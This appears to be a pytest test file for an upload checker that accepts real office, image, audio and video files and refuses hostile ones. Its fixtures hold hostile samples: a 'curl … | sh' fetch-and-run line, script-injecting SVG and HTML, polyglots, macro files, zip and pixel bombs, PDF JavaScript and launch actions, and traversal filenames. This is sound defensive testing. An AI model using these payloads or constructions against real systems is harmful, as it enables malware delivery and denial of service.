"""Attachments are judged by what they contain: real files pass, disguised and hostile ones are refused in one sentence.

Documents are made here with the libraries people's programs resemble (python-docx, python-pptx,
openpyxl, fpdf2, Pillow); the recordings in tests/data/samples/ were made once with FFmpeg (see the
README there). Hostile files are built byte by byte, as an attacker would.
"""

from __future__ import annotations

import functools
import gzip
import hashlib
import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

import docx
import openpyxl
import pptx
import pytest
from PIL import Image, PngImagePlugin

from ctdash.attachments import (
    ALLOWED,
    MB,
    AttachmentErrors,
    CheckedFile,
    check_file,
    check_files,
    decode_text,
    safe_filename,
)
from ctdash.errors import InvalidInput
from tests.samples import pdf_document, photo_with_location_and_artist, picture

SAMPLES = Path(__file__).parent / "samples"
LIMIT = 10 * MB
EVERY_KIND = "a PDF, Word, PowerPoint, Excel, CSV, text, PNG, JPEG, MP3 or MP4 file"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def check(name: str, data: bytes, **options) -> CheckedFile:
    options.setdefault("max_bytes", LIMIT)
    return check_file(name, data, **options)


def refusal(name: str, data: bytes, **options) -> str:
    with pytest.raises(InvalidInput) as caught:
        check(name, data, **options)
    message = str(caught.value)
    assert f'"{name}"' in message or name == ""
    return message


# Real files, as programs save them


@functools.cache
def word_document() -> bytes:
    document = docx.Document()
    document.add_heading("Who comes back after the first term?", level=1)
    document.add_paragraph("Café notes from the youth panel.")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@functools.cache
def presentation() -> bytes:
    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[0])
    slide.shapes.title.text = "Findings"
    buffer = io.BytesIO()
    deck.save(buffer)
    return buffer.getvalue()


@functools.cache
def workbook() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["school", "pupils"])
    book.active.append(["A", 28])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return buffer.getvalue()


def rebuilt(data: bytes, *, add: dict[str, bytes] | None = None, types: tuple[bytes, bytes] | None = None) -> bytes:
    """An Office file with parts added, or a text swapped in its [Content_Types].xml."""
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    if types:
        members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(*types)
    return zipped({**members, **(add or {})})


def handmade_pdf(*bodies: bytes) -> bytes:
    """A small PDF with the given objects (numbered from 3) after a catalog and an empty page tree."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", *bodies]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


@pytest.mark.parametrize(
    ("name", "make", "kind", "stored"),
    [
        ("Interim report.pdf", pdf_document, "pdf", "Interim report.pdf"),
        ("Panel notes.docx", word_document, "docx", "Panel notes.docx"),
        ("Findings.pptx", presentation, "pptx", "Findings.pptx"),
        ("Attendance.xlsx", workbook, "xlsx", "Attendance.xlsx"),
        ("chart.png", lambda: picture("PNG"), "png", "chart.png"),
        ("photo.jpeg", lambda: picture("JPEG"), "jpeg", "photo.jpeg"),
        ("attendance.csv", lambda: b"school,pupils\nA,28\nB,30\n", "csv", "attendance.csv"),
        ("notes.txt", lambda: "Café notes: the panel met twice.\n".encode("cp1252"), "txt", "notes.txt"),
        ("interview.mp3", lambda: sample("silence.mp3"), "mp3", "interview.mp3"),
        ("bare frames.mp3", lambda: sample("silence-frames-only.mp3"), "mp3", "bare frames.mp3"),
        ("session.mp4", lambda: sample("black.mp4"), "mp4", "session.mp4"),
    ],
)
def test_a_real_file_of_each_kind_is_accepted_as_it_is(name, make, kind, stored):
    data = make()
    checked = check(name, data)
    assert (checked.kind, checked.content_type, checked.stored_name) == (kind, ALLOWED[kind], stored)
    assert checked.original_name == name
    assert checked.size_bytes == len(checked.data)
    assert checked.sha256 == hashlib.sha256(checked.data).hexdigest()
    if kind not in ("png", "jpeg"):
        assert checked.data == data
        assert checked.notes == ()


def test_the_office_content_types_are_the_official_ones():
    assert ALLOWED["docx"] == DOCX_TYPE
    assert ALLOWED["pptx"] == "application/vnd.openxmlformats-officedocument.presentationml.presentation"
    assert ALLOWED["xlsx"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_the_content_decides_the_kind_and_the_stored_extension_not_the_name():
    checked = check("report.exe", pdf_document())
    assert (checked.kind, checked.stored_name) == ("pdf", "report.pdf")
    assert check("minutes.pdf", word_document()).stored_name == "minutes.docx"


def test_a_table_named_txt_is_a_csv_and_prose_named_csv_is_text():
    assert check("table.txt", b"a;b;c\n1;2;3\n4;5;6\n").stored_name == "table.csv"
    prose = check("letter.csv", b"Dear all,\nThank you for coming to the panel on Tuesday.\nBest wishes\n")
    assert (prose.kind, prose.stored_name) == ("txt", "letter.txt")


def test_a_table_is_taken_as_text_where_only_text_is_allowed():
    checked = check("table.csv", b"a,b\n1,2\n", allowed={"txt"})
    assert (checked.kind, checked.content_type) == ("txt", "text/plain")


def test_utf16_text_with_a_byte_order_mark_is_text():
    checked = check("export.csv", "\ufeffschool\tpupils\nA\t28\n".encode("utf-16-le"))
    assert checked.kind == "csv"


def test_an_iphone_voice_memo_m4a_is_stored_as_mp4():
    # An M4A is an MP4 file holding sound only: the black.mp4 sample with the M4A brand stands for one.
    data = sample("black.mp4")
    memo = data[:8] + b"M4A " + data[12:]
    checked = check("Voice memo.m4a", memo)
    assert (checked.kind, checked.stored_name) == ("mp4", "Voice memo.m4a")


# Sizes


def test_a_file_of_exactly_the_limit_is_accepted():
    data = b"a,b\n" + b"1,2\n" * ((MB - 4) // 4)
    assert check("big.csv", data, max_bytes=len(data)).size_bytes == len(data)


def test_one_byte_over_the_limit_is_refused_with_both_sizes():
    data = b"x" * (MB + 1)
    assert refusal("big.txt", data, max_bytes=MB) == (
        '"big.txt" is 1.1 MB, over the 1 MB limit for one file; make it smaller or split it, and upload it again.'
    )


def test_the_size_is_checked_before_the_content():
    assert "over the 1 MB limit" in refusal("program.pdf", b"MZ" + b"\x00" * (2 * MB), max_bytes=MB)


# Disguised and hostile files


PROGRAM = '"{}" is a program, not a document, so it cannot be attached; attach the document itself instead.'
WEB_PAGE = '"{}" is a web page or SVG drawing, which cannot be attached; save it as PDF and upload that.'
ARCHIVE = (
    '"{}" is a compressed archive (such as a zip), not a document; unpack it and attach the files inside one by one.'
)
POLYGLOT = (
    '"{}" is two kinds of file at once (something else is hidden inside it), so it cannot be attached; '
    "open it, save it again as a new file, and upload that."
)
TRUNCATED = '"{}" is cut short or damaged; save a fresh copy of it and upload that.'
BOMB = (
    '"{}" would unpack to far more than a real document of its size holds, so it cannot be attached; '
    "open it, save a fresh copy, and upload that."
)
PE_HEADER = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 48
    + b"This program cannot be run in DOS mode."
)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("invoice.pdf", PE_HEADER + b"\x00" * 4000),
        ("minutes.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 500),
        ("photo.jpg", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 500),
        ("notes.txt", b"#!/bin/sh\ncurl http://example.invalid | sh\n"),
        ("Reader.class.pdf", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 100),
    ],
)
def test_a_renamed_program_is_refused(name, data):
    assert refusal(name, data) == PROGRAM.format(name)


def test_text_that_merely_starts_with_mz_is_not_taken_for_a_program():
    assert check("countries.csv", b"MZ,Mozambique\nGB,United Kingdom\n").kind == "csv"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("report.pdf", b"<!DOCTYPE html>\n<html><body>Report</body></html>"),
        ("chart.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("notes.txt", b"\xef\xbb\xbf  \n<script>document.location='http://example.invalid'</script>"),
        ("drawing.jpg", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'),
        ("page.csv", "<html><body>hi</body></html>".encode("utf-16")),
    ],
)
def test_a_web_page_or_svg_is_refused_whatever_it_is_called(name, data):
    assert refusal(name, data) == WEB_PAGE.format(name)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("minutes.docx", zipped({"minutes.txt": b"Met on Tuesday.", "photo.jpg": b"\xff\xd8\xff"})),
        ("report.pdf", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 100),
        ("slides.pptx", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100),
        ("data.csv", gzip.compress(b"a,b\n1,2\n")),
    ],
)
def test_an_archive_dressed_as_a_document_is_refused(name, data):
    assert refusal(name, data) == ARCHIVE.format(name)


def test_a_word_file_with_macros_renamed_docx_is_refused():
    docm = rebuilt(
        word_document(),
        add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600},
        types=(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"),
    )
    assert refusal("budget.docx", docm) == (
        '"budget.docx" contains macros, small programs that could harm a computer, so it cannot be attached; '
        "in Word, save it as a Word Document (.docx) and upload that."
    )


def test_a_macro_project_is_refused_even_when_the_content_types_hide_it():
    hidden = rebuilt(workbook(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600})
    assert refusal("totals.xlsx", hidden) == (
        '"totals.xlsx" contains macros, small programs that could harm a computer, so it cannot be attached; '
        "in Excel, save it as an Excel Workbook (.xlsx) and upload that."
    )


def test_a_powerpoint_show_is_refused_with_how_to_save_a_presentation():
    show = rebuilt(
        presentation(), types=(b"presentationml.presentation.main+xml", b"presentationml.slideshow.main+xml")
    )
    assert refusal("talk.pptx", show) == (
        '"talk.pptx" is a PowerPoint show, not an ordinary one; open it in PowerPoint, '
        "save it as a PowerPoint Presentation (.pptx), and upload that."
    )


def test_a_program_hidden_inside_a_word_file_is_refused():
    carrier = rebuilt(word_document(), add={"word/media/image9.png": PE_HEADER + b"\x00" * 1000})
    assert refusal("minutes.docx", carrier) == (
        '"minutes.docx" has a program or a compressed archive hidden inside it, so it cannot be attached; '
        "remove it from the document, save it, and upload it again."
    )


def test_an_embedded_workbook_inside_a_word_file_is_normal_and_accepted():
    chart_data = rebuilt(word_document(), add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook()})
    assert check("report.docx", chart_data).kind == "docx"


def test_a_password_protected_office_file_is_refused():
    # Office wraps an encrypted .docx in an OLE container holding an "EncryptedPackage" stream.
    protected = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 512
    )
    assert refusal("salaries.xlsx", protected) == (
        '"salaries.xlsx" is protected by a password; remove the password in Office, save it, and upload it again.'
    )


def test_an_old_binary_office_file_is_refused():
    assert refusal("minutes.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024) == (
        '"minutes.docx" is in an old Office format (.doc, .xls or .ppt); open it, save it as .docx, .xlsx or .pptx, '
        "and upload that."
    )


def test_an_opendocument_file_is_refused_with_what_to_save_it_as():
    odt = zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document/>"})
    assert refusal("minutes.docx", odt) == (
        '"minutes.docx" is an OpenDocument file (from LibreOffice); '
        "save it as .docx, .xlsx, .pptx or PDF and upload that."
    )


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("holiday.jpg", lambda: picture("JPEG") + zipped({"payload.js": b"alert(1)"})),
        ("chart.png", lambda: picture("PNG") + zipped({"payload.js": b"alert(1)"})),
        ("report.pdf", lambda: pdf_document() + zipped({"payload.js": b"alert(1)"})),
        ("interview.mp3", lambda: sample("silence.mp3") + zipped({"payload.js": b"alert(1)"})),
        ("gifar.png", lambda: picture("GIF") + zipped({"Main.class": b"\xca\xfe\xba\xbe"})),
        ("photo.jpg", lambda: picture("JPEG") + pdf_document()),
        ("photo.jpg", lambda: picture("JPEG") + b"<html><script>alert(1)</script></html>"),
        ("chart.png", lambda: picture("PNG") + PE_HEADER),
    ],
)
def test_a_file_that_is_two_kinds_at_once_is_refused(name, make):
    assert refusal(name, make()) == POLYGLOT.format(name)


def test_a_zero_byte_file_is_refused():
    assert refusal("notes.txt", b"") == (
        '"notes.txt" is empty; check that you chose the right file and upload it again.'
    )


def test_a_text_file_of_only_spaces_is_refused_as_empty():
    assert refusal("notes.txt", b" \r\n\t\n") == (
        '"notes.txt" is empty; check that you chose the right file and upload it again.'
    )


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("report.pdf", lambda: pdf_document()[:-200]),
        ("report.pdf", lambda: b"%PDF-1.7\n"),
        ("chart.png", lambda: picture("PNG", (200, 200))[:-30]),
        ("chart.png", lambda: picture("PNG")[:20]),
        ("photo.jpg", lambda: picture("JPEG", (300, 200))[:-400]),
        ("photo.jpg", lambda: picture("JPEG")[:3]),
        ("minutes.docx", lambda: word_document()[:-500]),
        ("minutes.docx", lambda: word_document()[: len(word_document()) // 2]),
        ("interview.mp3", lambda: sample("silence.mp3")[:70]),
        ("interview.mp3", lambda: b"ID3\x04\x00\x00\x00\x00\x10\x00" + b"\x00" * 20),
        ("session.mp4", lambda: sample("black.mp4")[:-100]),
        ("session.mp4", lambda: sample("black.mp4")[:30]),
    ],
)
def test_a_file_cut_short_is_refused(name, make):
    assert refusal(name, make()) == TRUNCATED.format(name)


def test_a_damaged_part_inside_a_word_file_is_refused():
    data = bytearray(word_document())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("word/document.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data[start + 20] ^= 0xFF  # one byte of the compressed text flipped
    assert refusal("minutes.docx", bytes(data)) == TRUNCATED.format("minutes.docx")


# Bombs


def docx_with_zeros(megabytes: int) -> bytes:
    """A real Word document carrying one extra part of zeros, written a megabyte at a time."""
    with zipfile.ZipFile(io.BytesIO(word_document())) as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
        with archive.open("customXml/item9.xml", "w") as part:
            zeros = bytes(MB)
            for _ in range(megabytes):
                part.write(zeros)
    return buffer.getvalue()


def test_a_zip_bomb_inside_a_word_file_is_refused():
    bomb = docx_with_zeros(300)
    assert len(bomb) < 2 * MB
    assert refusal("minutes.docx", bomb) == BOMB.format("minutes.docx")


def test_an_office_file_unpacking_past_the_cap_is_refused_even_at_a_modest_ratio():
    incompressible = random.Random(8).randbytes(2 * MB)
    heavy = rebuilt(word_document(), add={"word/media/image1.png": incompressible})
    assert refusal("minutes.docx", heavy, max_unpacked_bytes=1 * MB) == BOMB.format("minutes.docx")
    assert check("minutes.docx", heavy).kind == "docx"


def test_a_directory_that_understates_a_parts_size_is_refused():
    # The central directory says the extra part unpacks to 100 bytes; it really unpacks to 50 MB.
    data = bytearray(docx_with_zeros(50))
    entry = data.find(b"customXml/item9.xml", data.find(b"PK\x01\x02")) - 46
    assert data[entry : entry + 4] == b"PK\x01\x02"
    data[entry + 24 : entry + 28] = struct.pack("<I", 100)
    assert refusal("minutes.docx", bytes(data)) == TRUNCATED.format("minutes.docx")


def png_bomb(width: int, height: int) -> bytes:
    """A black-and-white PNG of the given size, its zero rows compressed to almost nothing."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    row = bytes(1 + (width + 7) // 8)
    packer = zlib.compressobj(9)
    rows_at_once = max(1, 4 * MB // len(row))
    compressed = b"".join(
        packer.compress(row * min(rows_at_once, height - done)) for done in range(0, height, rows_at_once)
    )
    compressed += packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", compressed) + chunk(b"IEND", b"")


def test_a_pixel_bomb_png_is_refused_before_it_is_decoded():
    bomb = png_bomb(30_000, 30_000)
    assert len(bomb) < 200_000
    assert refusal("chart.png", bomb) == (
        '"chart.png" is 30,000 by 30,000 pixels, more than the 50 megapixels that can be checked safely; '
        "make the picture smaller and upload it again."
    )


def test_a_picture_just_over_the_pixel_limit_is_refused_and_one_at_it_accepted():
    assert "more than the 1 megapixels" in refusal("scan.png", png_bomb(1001, 1000), max_pixels=1_000_000)
    assert check("scan.png", png_bomb(1000, 1000), max_pixels=1_000_000).kind == "png"


def test_a_jpeg_claiming_huge_dimensions_is_refused():
    data = bytearray(picture("JPEG"))
    frame = data.find(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", 60_000, 60_000)
    assert refusal("photo.jpg", bytes(data)) == (
        '"photo.jpg" is 60,000 by 60,000 pixels, more than the 50 megapixels that can be checked safely; '
        "make the picture smaller and upload it again."
    )


# PDF content


PDF_ACTIVE = (
    '"report.pdf" is a PDF with scripts or instructions to start other programs, so it cannot be attached; '
    'print it to a new PDF (with "Save as PDF" or "Microsoft Print to PDF") and upload that.'
)


@pytest.mark.parametrize(
    "data",
    [
        handmade_pdf(b"<< /S /JavaScript /JS (app.alert('hello')) >>"),
        handmade_pdf(b"<< /S /Java#53cript /J#53 (app.alert(1)) >>"),
        pdf_document(launch="calc.exe"),
    ],
    ids=["javascript", "escaped-names", "launch"],
)
def test_a_pdf_with_javascript_or_a_launch_action_is_refused(data):
    assert refusal("report.pdf", data) == PDF_ACTIVE


def test_javascript_packed_in_a_compressed_object_stream_is_found():
    packed = zlib.compress(b"4 0 << /S /JavaScript /JS (app.alert(1)) >>")
    object_stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    assert refusal("report.pdf", handmade_pdf(object_stream)) == PDF_ACTIVE


def test_a_pdf_with_files_attached_inside_is_refused():
    assert refusal("report.pdf", pdf_document(embed=b"hello")) == (
        '"report.pdf" is a PDF with other files attached inside it, which cannot be checked; '
        'print it to a new PDF (with "Save as PDF" or "Microsoft Print to PDF") and upload that.'
    )


def test_an_encrypted_pdf_is_refused():
    assert refusal("report.pdf", pdf_document(password="owner-only")) == (
        '"report.pdf" is a locked (encrypted) PDF, whose contents cannot be checked; '
        'print it to a new PDF (with "Save as PDF" or "Microsoft Print to PDF") and upload that.'
    )


def test_a_plain_handmade_pdf_with_links_is_accepted():
    assert check("report.pdf", handmade_pdf(b"<< /S /URI /URI (https://example.org/) >>")).kind == "pdf"


# Kinds not allowed here


def test_a_kind_left_out_of_allowed_is_refused_with_what_is_allowed():
    assert refusal("report.pdf", pdf_document(), allowed={"png", "jpeg"}) == (
        '"report.pdf" is a PDF, which cannot be attached here; attach a PNG or JPEG file instead.'
    )
    assert refusal("sums.xlsx", workbook(), allowed={"docx"}) == (
        '"sums.xlsx" is an Excel workbook, which cannot be attached here; attach a Word file instead.'
    )


def test_a_gif_is_refused_as_a_kind_that_cannot_be_attached():
    assert refusal("animation.gif", picture("GIF")) == (
        f'"animation.gif" is a GIF picture, which cannot be attached here; attach {EVERY_KIND} instead.'
    )


def test_a_quicktime_movie_is_refused_with_how_to_make_an_mp4():
    assert refusal("clip.mp4", sample("black.mov")) == (
        '"clip.mp4" is a QuickTime movie (.mov), which cannot be attached; export it as MP4 and upload that.'
    )


def test_a_heic_photo_is_refused_with_how_to_make_a_jpeg():
    heic = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00\x00\x00\x08meta"
    assert refusal("IMG_0001.jpg", heic) == (
        '"IMG_0001.jpg" is a HEIC photo (the iPhone\'s own format), which cannot be attached; export it as JPEG '
        "(or share it from the Photos app by email, which sends a JPEG) and upload that."
    )


def test_other_kinds_are_named_in_the_refusal():
    assert refusal("photo.jpg", b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(40)) == (
        f'"photo.jpg" is a WebP picture, which cannot be attached here; attach {EVERY_KIND} instead.'
    )
    assert refusal("notes.txt", b"SQLite format 3\x00" + bytes(100)) == (
        f'"notes.txt" is a file of another kind (SQLite database file), which cannot be attached here; '
        f"attach {EVERY_KIND} instead."
    )


def test_binary_data_of_no_known_kind_is_refused():
    assert refusal("data.bin", bytes(range(256)) * 4) == (
        f'"data.bin" is not a kind of file that can be attached; attach {EVERY_KIND} instead.'
    )


def test_an_unknown_kind_in_allowed_is_a_programming_error():
    with pytest.raises(ValueError):
        check("a.txt", b"hello", allowed={"exe"})


# Photos: metadata removed, picture untouched


def test_a_photos_location_and_author_are_removed_and_the_uploader_told():
    checked = check("beach.jpg", photo_with_location_and_artist())
    assert b"Jo Bloggs" not in checked.data and b"Acacia" not in checked.data and b"Pixel 8" not in checked.data
    with Image.open(io.BytesIO(checked.data)) as image:
        exif = image.getexif()
        assert dict(exif) == {0x0112: 6}  # the orientation alone is kept, so the photo stays upright
        assert not exif.get_ifd(0x8825)
    assert checked.notes == (
        'Removed from "beach.jpg": the picture\'s location (GPS), the name of its author or owner '
        "and other hidden details such as the camera model.",
    )


def test_removing_a_photos_details_leaves_its_pixels_exactly_as_they_were():
    original = photo_with_location_and_artist()
    checked = check("beach.jpg", original)
    with Image.open(io.BytesIO(original)) as before, Image.open(io.BytesIO(checked.data)) as after:
        assert before.tobytes() == after.tobytes()
    assert checked.size_bytes < len(original)


def test_a_photo_with_nothing_to_remove_comes_back_without_notes():
    checked = check("plain.jpg", picture("JPEG"))
    assert checked.notes == ()


def test_text_and_exif_chunks_are_removed_from_a_png():
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Jo Bloggs")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta><exif:GPSLatitude>50,15N</exif:GPSLatitude></x:xmpmeta>")
    data = picture("PNG", pnginfo=info)
    checked = check("chart.png", data)
    assert b"Jo Bloggs" not in checked.data and b"GPSLatitude" not in checked.data
    with Image.open(io.BytesIO(data)) as before, Image.open(io.BytesIO(checked.data)) as after:
        assert before.tobytes() == after.tobytes()
    assert checked.notes == (
        'Removed from "chart.png": the picture\'s location (GPS), the name of its author or owner '
        "and other hidden details such as the camera model.",
    )


def test_extra_data_after_a_photo_is_dropped_and_mentioned():
    checked = check("motion.jpg", picture("JPEG") + b"\x00\x00\x00\x18ftypmp42" + bytes(range(200)))
    assert checked.data.endswith(b"\xff\xd9")
    assert checked.notes == ('Removed from "motion.jpg": extra data stored after the picture.',)


# Names


@pytest.mark.parametrize(
    ("name", "kind", "stored"),
    [
        ("C:\\Users\\jo\\Desktop\\report.pdf", "pdf", "report.pdf"),
        ("../../etc/passwd", "txt", "passwd.txt"),
        ("minutes\x00\x07\r\n.docx", "docx", "minutes.docx"),
        ("invoice\u202efdp.exe", "pdf", "invoicefdp.pdf"),
        ("\u2066photo\u2069.jpg", "jpeg", "photo.jpg"),
        ("CON.txt", "txt", "_CON.txt"),
        ("lpt1.pdf", "pdf", "_lpt1.pdf"),
        ("...hidden  ", "txt", "hidden.txt"),
        ("report. . .", "pdf", "report.pdf"),
        ("", "pdf", "attachment.pdf"),
        ("...", "png", "attachment.png"),
        ("invoice.pdf.exe", "pdf", "invoice.pdf"),
        ("PHOTO.JPEG", "jpeg", "PHOTO.JPEG"),
        ("Minutes 12.03.2024", "docx", "Minutes 12.03.2024.docx"),
        ("a:b*c?.csv", "csv", "a_b_c_.csv"),
        ("Cafe\u0301 notes.txt", "txt", "Café notes.txt"),
    ],
)
def test_stored_names_are_safe(name, kind, stored):
    assert safe_filename(name, kind=kind) == stored


def test_a_long_name_is_cut_keeping_its_extension():
    stored = safe_filename("a" * 300 + ".pdf", kind="pdf")
    assert len(stored) == 120 and stored.endswith("a.pdf")


def test_without_a_kind_the_names_own_extension_is_kept():
    assert safe_filename("Report (final).PDF") == "Report (final).PDF"
    assert safe_filename("  ") == "attachment"


def test_a_refusal_names_the_file_without_its_folders_or_invisible_characters():
    message = refusal_of_any_name("C:\\temp\\invoice\u202efdp.exe", PE_HEADER)
    assert message.startswith('"invoicefdp.exe" is a program')


def refusal_of_any_name(name: str, data: bytes) -> str:
    with pytest.raises(InvalidInput) as caught:
        check(name, data)
    return str(caught.value)


# Showing text


@pytest.mark.parametrize(
    "data",
    [
        "Café,Ünïcode\n".encode(),
        "Café,Ünïcode\n".encode("utf-8-sig"),
        "Café,Ünïcode\n".encode("utf-16"),
        "Café,Ünïcode\n".encode("utf-16-be").join([b"\xfe\xff", b""]),
        "Café,Ünïcode\n".encode("cp1252"),
    ],
    ids=["utf-8", "utf-8-bom", "utf-16-le-bom", "utf-16-be-bom", "windows-1252"],
)
def test_decode_text_shows_cafe_right_in_every_encoding_people_save(data):
    assert decode_text(data) == "Café,Ünïcode\n"


def test_decode_text_never_fails():
    assert decode_text(b"caf\x81") == "caf\ufffd"


# Several files at once


def test_every_refused_file_of_an_upload_is_named_at_once():
    files = [("notes.txt", b"fine"), ("setup.pdf", PE_HEADER), ("empty.csv", b""), ("chart.png", picture("PNG"))]
    with pytest.raises(AttachmentErrors) as caught:
        check_files(files, max_bytes=LIMIT, max_total_bytes=LIMIT, max_files=5)
    assert caught.value.problems == [
        PROGRAM.format("setup.pdf"),
        '"empty.csv" is empty; check that you chose the right file and upload it again.',
    ]
    assert str(caught.value) == " ".join(caught.value.problems)
    assert isinstance(caught.value, InvalidInput)


def test_an_upload_within_every_limit_comes_back_in_order():
    files = [("notes.txt", b"fine"), ("chart.png", picture("PNG"))]
    checked = check_files(files, max_bytes=LIMIT, max_total_bytes=LIMIT, max_files=2)
    assert [file.stored_name for file in checked] == ["notes.txt", "chart.png"]


def test_too_many_files_and_too_much_in_all_are_said_once_each():
    files = [(f"part{number}.txt", bytes([65 + number]) * 400_000) for number in range(4)]
    with pytest.raises(AttachmentErrors) as caught:
        check_files(files, max_bytes=LIMIT, max_total_bytes=MB, max_files=3)
    assert caught.value.problems == [
        "You chose 4 files, but at most 3 can be attached here; attach fewer files.",
        "The files come to 1.6 MB together, over the 1 MB allowed here; attach fewer or smaller files.",
    ]


def test_the_same_file_twice_in_one_upload_is_refused_the_second_time():
    files = [("notes.txt", b"same"), ("notes (1).txt", b"same")]
    with pytest.raises(AttachmentErrors) as caught:
        check_files(files, max_bytes=LIMIT, max_total_bytes=LIMIT, max_files=5)
    assert caught.value.problems == ['"notes (1).txt" is the same file as "notes.txt"; attach it only once.']
